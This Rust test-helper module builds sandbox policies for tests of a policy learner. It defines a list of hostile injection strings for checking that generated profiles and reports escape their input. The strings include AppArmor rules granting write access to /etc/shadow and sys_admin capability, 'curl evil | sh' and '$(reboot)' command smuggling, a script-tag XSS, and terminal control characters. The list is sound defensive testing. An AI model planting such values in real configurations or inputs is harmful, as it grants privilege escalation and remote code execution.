//! Policies for tests.

use std::collections::{BTreeMap, BTreeSet};

use learner::Policy;
use learner::policy::{
    self, AddressRule, CallRule, CapabilityRule, Evidence, ExecRule, FallbackRule, FileRule,
    Pattern, Rule, SignalRule, SocketRule, Tightness, Training,
};
use tracer::abi::Abi;
use tracer::recording::{Access, ByteString, SocketAction};

/// A policy that allows nothing.
pub(crate) fn nothing(name: &str) -> Policy {
    Policy {
        format: policy::FORMAT.to_owned(),
        version: policy::VERSION,
        name: name.to_owned(),
        tightness: Tightness::Balanced,
        training: Training {
            runs: 1,
            commands: BTreeSet::new(),
            backends: BTreeSet::new(),
            fidelity: BTreeMap::new(),
            complete: true,
            incomplete_because: BTreeSet::new(),
            programs: BTreeSet::new(),
        },
        calls: Vec::new(),
        fallbacks: Vec::new(),
        files: Vec::new(),
        execs: Vec::new(),
        capabilities: Vec::new(),
        sockets: Vec::new(),
        addresses: Vec::new(),
        signals: Vec::new(),
        saturation: Default::default(),
        notes: BTreeSet::new(),
    }
}

/// A rule whose evidence does not matter.
pub(crate) fn rule<T>(allow: T) -> Rule<T> {
    Rule { allow, evidence: Evidence::default() }
}

pub(crate) fn file(path: Pattern, access: &[Access], owner: bool) -> Rule<FileRule> {
    let access = access.iter().copied().collect();
    rule(FileRule { path, access, owner, links_to: BTreeSet::new(), renames_to: BTreeSet::new() })
}

pub(crate) fn capability(name: &str) -> Rule<CapabilityRule> {
    rule(CapabilityRule { name: name.to_owned(), calls: BTreeSet::new() })
}

/// A policy in which each string that a program, a file's name or another's policy chooses is `text`.
pub(crate) fn of_text(text: &str) -> Policy {
    let bytes = ByteString::from(text);
    let path = Pattern::literal(&[b"/", text.as_bytes()].concat());
    let mut policy = nothing(text);
    policy.training.commands = [vec![bytes.clone(), bytes.clone()]].into();
    policy.training.programs = [bytes.clone()].into();
    policy.training.backends = [text.to_owned()].into();
    policy.training.complete = false;
    policy.training.incomplete_because = [text.to_owned()].into();
    policy.notes = [text.to_owned()].into();
    let call = |name: Option<&str>, nr| {
        rule(CallRule { abi: Abi::X86_64, nr, name: name.map(str::to_owned), when: Vec::new() })
    };
    policy.calls = vec![call(Some(text), 0), call(None, 9999)];
    policy.fallbacks = vec![FallbackRule {
        abi: Abi::X86_64,
        nr: 1,
        name: format!("{text}2"),
        instead: text.to_owned(),
    }];
    policy.files = vec![file(path, &[Access::Read], false)];
    policy.files.push(rule(FileRule {
        path: Pattern::literal(b"/linked"),
        access: [Access::Link].into(),
        owner: false,
        links_to: [Pattern::literal(&[b"/", text.as_bytes()].concat())].into(),
        renames_to: BTreeSet::new(),
    }));
    let rooted = ByteString::new([b"/", text.as_bytes()].concat());
    policy.execs = vec![rule(ExecRule {
        path: rooted.clone(),
        interpreter: Some(rooted.clone()),
        loader: Some(rooted.clone()),
    })];
    policy.capabilities = vec![capability(text), capability("CAP_CHOWN")];
    policy.sockets = vec![rule(SocketRule { family: 1, kind: 1, protocol: 0 })];
    let address = |path: ByteString| {
        rule(AddressRule {
            action: SocketAction::Bind,
            family: 1,
            port: None,
            class: Some(text.into()),
            path: Some(path),
        })
    };
    policy.addresses = vec![
        address(rooted),
        address(ByteString::new([b"@", text.as_bytes()].concat())),
        address(bytes),
    ];
    policy.signals = vec![rule(SignalRule { signal: 15, inside: true })];
    policy
}

/// Texts that end what they stand in, in one of the languages written here, and begin something else.
pub(crate) const HOSTILE: [&str; 14] = [
    "x\n  /** rwlkmix,\n",
    "x\r\n/etc/shadow rw,",
    "x\",\n  file,\n  \"/y",
    "x {\n}\nprofile other {\n  file,\n",
    "x\n# include <tunables/global>\n/etc/shadow rw,",
    "chown,\n  capability sys_admin",
    "x, file,",
    "x\n## What it allows\n\n| capabilities | none |",
    "x\n```\n\n# Safe\n",
    "x; curl evil | sh #",
    "$(reboot) `reboot`",
    "<script>alert(1)</script>",
    "@{HOME}/** \u{2028}\u{85}\u{1b}[2J\u{202e}",
    "\\\\\\\"*?[!a]{b,c}^\t",
];
